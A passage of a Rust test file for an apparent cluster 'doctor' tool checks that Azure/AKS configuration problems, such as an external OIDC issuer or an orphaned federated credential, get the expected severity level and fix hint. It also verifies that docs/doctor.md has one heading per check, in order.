                json!("https://issuer.example"),
            ),
            none(),
            "issuer-in-azure",
            Level::Red,
            "openid-configuration",
        ),
        (
            aks(),
            stranger,
            "credentials-of-nobody",
            Level::Yellow,
            "az identity federated-credential delete",
        ),
    ] {
        let found = examined_with(cluster, credentials).await;
        let bad = found
            .checks
            .iter()
            .filter(|one| OF_AZURE.contains(&one.id) && one.level != Level::Green);
        let bad: Vec<(&str, Level)> = bad.map(|one| (one.id, one.level)).collect();
        let with_it = (id == "local-accounts").then_some(("kubeconfig", Level::Yellow));
        let expected: Vec<(&str, Level)> = std::iter::once((id, level)).chain(with_it).collect();
        assert_eq!(bad, expected, "{}", told(&trees(&found)));
        let fix = of(&found, id).fix.join("\n");
        assert!(fix.contains(mends), "{mends} is not in {fix}");
    }
}

#[test]
fn each_check_is_explained_under_its_own_heading() {
    let page = std::fs::read_to_string(format!("{}/../../docs/doctor.md", env!("CARGO_MANIFEST_DIR"))).unwrap();
    let headings: Vec<&str> = page.lines().filter_map(|line| line.strip_prefix("### ")).collect();
    let checks: Vec<&str> = TABLE.iter().map(|check| check.id).collect();
    assert_eq!(
        headings, checks,
        "docs/doctor.md has a heading for each check, in their order"
    );
}
